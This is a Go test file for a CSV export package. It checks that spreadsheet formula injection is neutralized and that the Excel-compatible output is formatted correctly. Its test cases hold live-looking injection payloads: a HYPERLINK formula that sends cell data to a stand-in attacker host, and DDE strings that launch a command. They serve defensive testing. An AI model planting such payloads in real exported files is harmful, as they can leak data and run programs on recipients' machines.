package opendata

import (
	"bytes"
	"encoding/csv"
	"errors"
	"iter"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ensemble-be/ensemble/record"
)

func seq(recs ...record.Record) iter.Seq2[record.Record, error] {
	return func(yield func(record.Record, error) bool) {
		for _, r := range recs {
			if !yield(r, nil) {
				return
			}
		}
	}
}

func TestNeutralize(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"plain", "Groupe de parole", "Groupe de parole"},
		{"hyperlink", `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"dde", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"plus formula", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"e164 phone", "+3221234567", "'+3221234567"},
		{"spaced phone", "+32 2 123 45 67", "'+32 2 123 45 67"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"formula later", "a=1+1", "a=1+1"},
		{"leading space kept", " =1", " =1"},
		{"already quoted", "'=1", "'=1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Neutralize(tt.in); got != tt.want {
				t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func excelRecords() []record.Record {
	start := time.Date(2026, 3, 3, 19, 0, 0, 0, time.FixedZone("CET", 3600))
	return []record.Record{
		{
			ID: record.NewID("src", "1"), Source: "src", LocalID: "1", Status: record.StatusActive,
			Title:        `=HYPERLINK("http://evil.example","Inscription")`,
			Description:  "Groupe de parole; entrée libre\nDeuxième ligne « guillemets » \"quoted\"",
			Audiences:    []string{"adults", "carers"},
			Organization: record.Organization{Name: "@Similes", URL: "https://similes.example"},
			Location:     record.Location{Address: "Rue de l'Été 1", Postcode: "1000", City: "Bruxelles", Lat: 50.85, Lon: 4.35},
			Schedule:     record.Schedule{Start: &start, Text: "-- le mardi --"},
			Contact:      record.Contact{Phone: "+3221234567", Email: "info@similes.example", Person: "Marie Dupont"},
			Registration: record.Registration{Phone: "+32 2 123 45 67"},
		},
		{ID: record.NewID("src", "2"), Source: "src", LocalID: "2", Title: "Plain", Description: "\t=1+1"},
	}
}

func TestWriteExcelCSV(t *testing.T) {
	recs := excelRecords()
	var buf bytes.Buffer
	if err := WriteExcelCSV(&buf, seq(recs...)); err != nil {
		t.Fatalf("WriteExcelCSV: %v", err)
	}
	out := buf.String()
	if !strings.HasPrefix(out, "\uFEFFid;source;") {
		t.Fatalf("output starts %q, want a BOM then a ;-separated header", out[:min(len(out), 20)])
	}
	if !strings.HasSuffix(out, "\r\n") || strings.Count(out, "\r\n") < 3 {
		t.Errorf("output does not use CRLF line ends")
	}
	if strings.Contains(out, "Marie Dupont") {
		t.Errorf("output contains the contact person")
	}
	for _, want := range []string{`"'=HYPERLINK(""http://evil.example"",""Inscription"")"`, ";'+3221234567;", ";'@Similes;", ";'-- le mardi --;"} {
		if !strings.Contains(out, want) {
			t.Errorf("output does not contain %s", want)
		}
	}

	// Read it back as Excel does: strip the BOM, split on ';', drop the leading quote.
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\uFEFF")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("re-read: %v", err)
	}
	if !slices.Equal(rows[0], record.CSVColumns) {
		t.Errorf("header = %q, want record.CSVColumns", rows[0])
	}
	if len(rows) != len(recs)+1 {
		t.Fatalf("read %d rows, want %d", len(rows), len(recs)+1)
	}
	for i, rec := range recs {
		want := rec.Public().CSVRow()
		got := rows[i+1]
		if len(got) != len(want) {
			t.Fatalf("row %d has %d cells, want %d", i, len(got), len(want))
		}
		for j := range want {
			cell := got[j]
			if Neutralize(want[j]) != want[j] {
				if !strings.HasPrefix(cell, "'") {
					t.Errorf("row %d %s = %q, want it neutralized", i, record.CSVColumns[j], cell)
				}
				cell = strings.TrimPrefix(cell, "'")
			}
			if cell != want[j] {
				t.Errorf("row %d %s = %q, want %q", i, record.CSVColumns[j], cell, want[j])
			}
		}
	}
}

func TestWriteExcelCSVError(t *testing.T) {
	boom := errors.New("boom")
	recs := func(yield func(record.Record, error) bool) {
		if yield(excelRecords()[1], nil) {
			yield(record.Record{}, boom)
		}
	}
	if err := WriteExcelCSV(&bytes.Buffer{}, recs); !errors.Is(err, boom) {
		t.Errorf("WriteExcelCSV = %v, want %v", err, boom)
	}
}
